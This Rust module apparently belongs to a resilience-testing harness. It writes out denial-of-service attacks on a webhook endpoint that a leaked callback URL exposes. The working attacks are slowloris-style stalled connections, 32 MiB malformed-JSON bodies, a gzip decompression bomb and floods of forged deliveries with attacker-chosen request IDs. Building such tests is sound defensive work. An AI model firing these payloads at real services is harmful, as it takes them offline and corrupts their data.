//! Attacks of somebody who has got hold of one callback URL.

use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

use base64ct::{Base64, Encoding as _};

use crate::attack::{Scene, answers};
use crate::target::TENANT;

const LARGEST: usize = 32 * 1024 * 1024;

const BREATH: Duration = Duration::from_millis(50);

/// Connections on which the largest body is announced, and not a byte of it comes.
pub fn announced(scene: &Scene<'_>, _: usize) {
    hold(scene, 100, LARGEST, &[]);
}

/// Connections on which a body comes byte by byte.
pub fn slow(scene: &Scene<'_>, _: usize) {
    let head = scene.head("Content-Length: 1000000\r\n");
    let mut streams: Vec<TcpStream> = Vec::new();
    while scene.goes_on() {
        streams.retain_mut(|stream| stream.write_all(b" ").is_ok());
        while streams.len() < 100 {
            let Some(mut stream) = scene.connect() else { break };
            if stream.write_all(head.as_bytes()).is_err() {
                break;
            }
            streams.push(stream);
        }
        std::thread::sleep(BREATH);
    }
}

/// Bodies that are there but for their last byte.
pub fn held_back(scene: &Scene<'_>, _: usize) {
    let body = vec![b' '; LARGEST - 1];
    hold(scene, 8, LARGEST, &body);
}

/// Keeps so many connections with a body of this length begun.
fn hold(scene: &Scene<'_>, count: usize, length: usize, begun: &[u8]) {
    let head = scene.head(&format!("Content-Length: {length}\r\n"));
    let mut streams: Vec<TcpStream> = Vec::new();
    while scene.goes_on() {
        // An answer means that the body is not waited for any more.
        streams.retain(|stream| {
            let _ = stream.set_nonblocking(true);
            let waits = matches!(stream.peek(&mut [0]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock);
            let _ = stream.set_nonblocking(false);
            waits
        });
        if streams.len() < count
            && let Some(mut stream) = scene.connect()
        {
            if stream.write_all(head.as_bytes()).is_ok() && stream.write_all(begun).is_ok() {
                streams.push(stream);
            }
        } else {
            std::thread::sleep(BREATH);
        }
    }
}

/// The body, again and again.
fn send(scene: &Scene<'_>, fields: &str, body: &[u8]) {
    let head = scene.head(&format!("{fields}Content-Length: {}\r\n", body.len()));
    while scene.goes_on() {
        let Some(mut stream) = scene.connect() else { continue };
        let _ = stream.write_all(head.as_bytes());
        let _ = stream.write_all(body);
        let _ = answers(&mut stream);
    }
}

pub fn brackets(scene: &Scene<'_>, number: usize) {
    let bracket = if number.is_multiple_of(2) { "[" } else { "[[]," };
    send(scene, "", &repeated("", bracket, ""));
}

pub fn string(scene: &Scene<'_>, number: usize) {
    let text = if number.is_multiple_of(2) { "x" } else { "\\u0041" };
    send(scene, "", &repeated(r#"{"results":{"channels":[]},"x":""#, text, r#""}"#));
}

pub fn number(scene: &Scene<'_>, number: usize) {
    let digits = if number.is_multiple_of(2) { "9" } else { "0" };
    send(scene, "", &repeated(r#"{"results":{"channels":[{"alternatives":[{"confidence":1."#, digits, "e9}]}]}}"));
}

pub fn members(scene: &Scene<'_>, _: usize) {
    send(
        scene,
        "",
        &repeated(r#"{"metadata":{"request_id":1"#, r#","request_id":1"#, r#"},"results":{"channels":[]}}"#),
    );
}

/// A text that is as long as a body may be.
fn repeated(front: &str, part: &str, back: &str) -> Vec<u8> {
    let count = (LARGEST - front.len() - back.len()) / part.len();
    [front, &part.repeat(count), back].concat().into_bytes()
}

/// A gigabyte of spaces, compressed a thousand times.
pub fn bombs(scene: &Scene<'_>, _: usize) {
    use flate2::{Compression, write::GzEncoder};
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![b' '; 1 << 20]).expect("memory takes it");
    // What is compressed may consist of parts, one after the other (RFC 1952 section 2.2).
    let part = encoder.finish().expect("memory takes it");
    send(scene, "Content-Encoding: gzip\r\n", &part.repeat(1024));
}

/// Deliveries that all differ, into one submission, as fast as possible.
pub fn many(scene: &Scene<'_>, number: usize) {
    stream(scene, &scene.leaked, |count| format!(r#"{{"err_code":"x","err_msg":"{number} {count}"}}"#));
}

/// Documents of requests that nobody has made, as fast as possible: names for the tables, chosen by somebody else.
pub fn names(scene: &Scene<'_>, number: usize) {
    let tenant = format!("Basic {}", Base64::encode_string(TENANT.as_bytes()));
    stream(scene, &tenant, |count| {
        format!(
            r#"{{"metadata":{{"request_id":"{number:08x}-0000-4000-8000-{count:012x}"}},"results":{{"channels":[]}}}}"#
        )
    });
}

/// Sends bodies one after the other, many of them on a connection.
fn stream(scene: &Scene<'_>, authorization: &str, body: impl Fn(u64) -> String) {
    let mut count = 0;
    while scene.goes_on() {
        let Some(mut stream) = scene.connect() else { continue };
        for _ in 0..100 {
            let body = body(count);
            let request = format!(
                "POST /hook HTTP/1.1\r\nHost: example.com\r\nAuthorization: {authorization}\r\n\
                 Content-Length: {}\r\n\r\n{body}",
                body.len()
            );
            if stream.write_all(request.as_bytes()).is_err() {
                break;
            }
            count += 1;
            scene.shoot();
        }
        let _ = stream.shutdown(std::net::Shutdown::Write);
        let _ = answers(&mut stream);
    }
}
